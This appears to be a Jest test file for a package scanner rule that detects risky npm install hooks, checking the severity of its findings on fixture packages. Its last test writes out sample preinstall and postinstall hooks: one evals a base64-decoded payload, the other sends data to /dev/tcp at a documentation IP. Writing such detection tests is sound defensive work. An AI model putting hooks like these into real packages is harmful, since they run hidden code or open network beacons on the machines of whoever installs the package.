import { describe, expect, it } from '@jest/globals';
import { npmInstallScript } from '../../../src/analysis/rules/npm-install-script.js';
import { gating, run, runOn } from './helpers.js';

describe('npm-install-script', () => {
  it('flags the technique in a fixture package', async () => {
    const findings = await run(npmInstallScript, 'npm-install-script/positive');
    expect(findings.length).toBeGreaterThan(0);
    expect(findings[0].rule).toBe('npm-install-script');
    expect(findings[0].severity).toBe('critical');
    expect(findings[0].message.length).toBeGreaterThan(20);
    expect(findings[0].line).toBeGreaterThan(0);
  });

  it('stays below the gate on the legitimate look-alike', async () => {
    expect(gating(await run(npmInstallScript, 'npm-install-script/negative'))).toEqual([]);
  });

  it('judges a script file by what it does: a probe is high, a binary download is medium', async () => {
    const probe = await run(npmInstallScript, 'npm-install-script/file-positive');
    expect(probe[0].severity).toBe('high');
    const download = await run(npmInstallScript, 'npm-install-script/binary-download');
    expect(download[0].severity).toBe('medium');
    const routine = await run(npmInstallScript, 'npm-install-script/negative');
    expect(routine[0].severity).toBe('low');
  });

  it('flags inline encoded payloads and /dev/tcp beacons', async () => {
    const inline = await runOn(npmInstallScript, 'npm', {
      'package/package.json': JSON.stringify({
        scripts: {
          preinstall: `node -e "eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())"`,
        },
      }),
    });
    expect(inline[0].severity).toBe('critical');
    const tcp = await runOn(npmInstallScript, 'npm', {
      'package/package.json': JSON.stringify({
        scripts: { postinstall: 'bash -c "echo hi > /dev/tcp/198.51.100.9/443"' },
      }),
    });
    expect(tcp[0].severity).toBe('critical');
  });
});
